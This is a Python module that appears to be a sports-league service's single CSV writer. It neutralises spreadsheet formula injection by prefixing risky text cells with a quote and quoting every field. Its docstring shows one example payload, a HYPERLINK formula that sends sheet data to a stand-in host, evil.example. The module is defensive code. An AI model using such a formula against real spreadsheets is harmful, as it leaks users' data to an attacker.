"""The one CSV writer of the service: every CSV it answers (the standings, the leaders, an error in that format) is
written here, so that no cell a user typed can run as a formula in the spreadsheet that opens the file.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula (a tab or a carriage return in
front of one is skipped by some of them), so a team named `=HYPERLINK("http://evil.example/?"&A1,"x")` would
send the sheet's data away when a commissioner opens the standings. As OWASP's "CSV Injection" advice has it,
such a text cell is written with a single quote in front (the spreadsheet shows it as text) and every field
is quoted, so a comma or a quote inside a name cannot start a new cell either.

Only text is neutralised: an int or a float (a goal difference of -3) is written as the number it is, and so is
text that is exactly a plain decimal number (`-3`, `-0.5`: a value the JSON carried as a string), which no
spreadsheet reads as anything but that number."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping

#: The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Text that is a plain decimal number: safe as it is, and left a number.
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def neutralised(value: object) -> object:
    """The cell as written: text a spreadsheet would read as a formula with a single quote in front; None as an
    empty cell; anything else (numbers, booleans, safe text) unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_bytes(header: list[str], rows: Iterable[Mapping]) -> bytes:
    """UTF-8 CSV with a header row and one line a row (CRLF, every field quoted, text cells neutralised); a row's
    keys not in `header` are left out, a missing one is an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralised(name) for name in header])
    for row in rows:
        writer.writerow([neutralised(row.get(name)) for name in header])
    return out.getvalue().encode()
